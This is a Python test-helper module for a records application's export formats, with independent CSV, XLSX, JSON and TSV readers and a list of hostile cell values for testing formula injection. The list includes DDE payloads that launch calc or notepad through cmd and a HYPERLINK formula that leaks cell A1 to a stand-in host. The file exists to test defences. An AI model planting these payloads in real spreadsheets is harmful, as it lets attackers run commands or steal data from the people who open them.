"""Exports, hostile cells, and independent readers, for the tests of the formats."""

import csv
import io
import json
import re
import sqlite3
from collections.abc import Callable, Mapping, Sequence
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from a4p_desktop.records.archive.archive import Archive
from a4p_desktop.records.archive.selected_rows import Selection
from a4p_desktop.records.clipboard.rows import TSV
from a4p_desktop.records.export.export import write_whole
from a4p_desktop.records.export.formats import EXCEL_CELL, FORMATS, Dialect, Format
from a4p_desktop.records.language import said
from a4p_desktop.records.question.search import Search
from a4p_desktop.records.schema.tables import TABLES

GOLDEN = Path(__file__).parent / "golden"
WHEN = datetime(2026, 11, 24, 10, 0, 59, 999, tzinfo=UTC)

DATA = FORMATS["csv"]
# Fixed, because the separator depends on the locale.
EXCEL = replace(FORMATS["csv-excel"], dialect=Dialect(",", byte_order_mark=True, guarded=True))
SEMICOLON = replace(EXCEL, dialect=Dialect(";", byte_order_mark=True, guarded=True))
BARE = replace(DATA, name="bare", dialect=Dialect(";", byte_order_mark=False, guarded=False))
XLSX = FORMATS["xlsx"]
JSON = FORMATS["json"]
EVERY: Sequence[Format] = (EXCEL, DATA, XLSX, JSON, TSV)

HOSTILE = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://x.example?leak="&A1,"x")',
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\rx",
    "\u202e=1+1\u202c",
    "\u2066شيخ\u2069",
    "\r\n",
    '",',
    '"',
    "\0",
    "\x1f\x1e\x1c",
    "\ufffe\uffff",
    "_x0041_",
    "_x005F_x0000_x0000_",
    "<r><t>rich</t></r>",
    "<r></r>",
    "</t></is></c>",
    "<!--",
    "]]>",
    "&amp;",
    " ",
    "0012",
    "1e5",
    "2018-09-25",
    "TRUE",
    "#N/A",
    "https://example.org/",
    "mailto:x@example.org",
    "internal:A1",
    "👩🏽‍🚀" * 10,
    "中国，",
    "x" * 40_000,
]
CELL = st.lists(
    st.sampled_from(HOSTILE)
    | st.sampled_from([*",;\"'\r\n\t\0= +-@|<>&_"])
    | st.text(st.characters(exclude_categories=["Cs"]), max_size=5),
    max_size=4,
).map("".join)


_SIGNS = " =+-@＝＋－＠﹦﹢﹣﹫"


def may_run(cell: str) -> bool:
    """Whether a spreadsheet might run a cell: it begins like a formula, and is more than signs."""
    begins = re.match(r"[\"\s]*[=@＝＋－＠]|[\t\r\n]", cell)
    return bool(begins) and bool(cell.strip(_SIGNS))


def whole_table(table: str) -> Selection:
    """All columns of all rows."""
    return Selection(Search(table), tuple(column.name for column in TABLES[table].exported))


def heading_of(format: Format, selection: Selection) -> list[str]:
    """The heading line of an export."""
    table = TABLES[selection.search.table]
    columns = [table.exported_column(name) for name in selection.columns]
    return [said(each.heading) if format.in_words else each.name for each in columns]


def fitting(text: str) -> str:
    """As much of a text as a cell of Excel holds."""
    units = text.encode("utf-16-le")
    if len(units) <= 2 * EXCEL_CELL:
        return text
    return units[: 2 * (EXCEL_CELL - 1)].decode("utf-16-le", "ignore") + "…"


def separator(format: Format) -> str:
    """The separator of a CSV format."""
    assert format.dialect is not None
    return format.dialect.separator


def files(folder: Path) -> list[str]:
    """The sorted names in a folder."""
    return sorted(path.name for path in folder.iterdir())


def exported(
    archive: Archive, selection: Selection, format: Format, *, about: bool = True
) -> bytes:
    """The bytes of an export at WHEN."""
    stream = io.BytesIO()
    write_whole(archive, selection, format, stream, with_provenance=about, when=WHEN)
    assert not stream.closed
    return stream.getvalue()


def without_digest(text: str, archive: Archive) -> str:
    """`text` with zeros for the digest of the records, which differs with each change of the file
    format."""
    return text.replace(archive.info["digest"], "0" * 64)


def with_cells(spare: Path, cells: Sequence[str | bytes]) -> Archive:
    """An archive with `cells` as the persons of its first statements; bytes are stored as text,
    also if they are no UTF-8."""
    with closing(sqlite3.connect(spare)) as database:
        database.execute("PRAGMA synchronous = OFF")
        database.execute("UPDATE statement SET person = NULL")
        database.executemany(
            "UPDATE statement SET person = CAST(? AS TEXT)"
            " WHERE id = (SELECT max(id) FROM statement) - ?",
            [(cell, number) for number, cell in enumerate(cells)],
        )
        database.commit()
    return Archive(spare)


def read_rfc4180(text: str, separator: str = ",") -> list[list[str]]:
    """The records of `text`, by a reader after RFC 4180 that is independent of Python's csv."""
    records: list[list[str]] = []
    record: list[str] = []
    at = 0
    while at < len(text):
        if text[at] == '"':
            end = at + 1
            while text[end] != '"' or text[end : end + 2] == '""':
                end += 2 if text[end] == '"' else 1
            cell, at = text[at + 1 : end].replace('""', '"'), end + 1
        else:
            end = at
            while text[end] not in f'{separator}\r\n"':
                end += 1
            cell, at = text[at:end], end
        record.append(cell)
        if text[at] == separator:
            at += 1
            if text[at : at + 2] == "\r\n":
                record.append("")
        if text[at : at + 2] == "\r\n":
            at += 2
            records.append(record)
            record = []
    assert not record
    return records


def read_csv(text: str, separator: str = ",") -> list[list[str]]:
    """The records of `text`, by Python's csv."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))


def sheets(data: bytes) -> Sequence[Any]:
    """The sheets of a workbook, by openpyxl."""
    book = openpyxl.load_workbook(io.BytesIO(data), rich_text=False)
    sheets: Sequence[Any] = book.worksheets
    return sheets


def cell_value(cell: Any) -> object:
    """The value of a cell, with characters that the workbook escapes restored."""
    assert cell.data_type != "f"
    value = cell.value
    if isinstance(value, datetime):
        return value.date().isoformat()
    return unescape(value) if isinstance(value, str) else value


def _xlsx_rows(data: bytes) -> list[list[object]]:
    return [[cell_value(cell) for cell in row] for row in sheets(data)[0].iter_rows()]


def _json_rows(data: bytes) -> list[list[object]]:
    rows = json.loads(data)["rows"]
    names = list(rows[0]) if rows else []
    return [names, *([row[name] for name in names] for row in rows)]


def _csv_rows(data: bytes) -> list[list[object]]:
    text = data.decode("utf-8-sig")
    records = read_csv(text)
    assert read_rfc4180(text) == records
    return [list(record) for record in records]


def _tsv_rows(data: bytes) -> list[list[object]]:
    return [list(record) for record in read_csv(data.decode("utf-8"), "\t")]


READERS: Mapping[str, Callable[[bytes], list[list[object]]]] = {
    "csv-excel": _csv_rows,
    "csv": _csv_rows,
    "xlsx": _xlsx_rows,
    "json": _json_rows,
    "tsv": _tsv_rows,
}
"""Readers by format that are independent of the program; each returns heading and rows."""
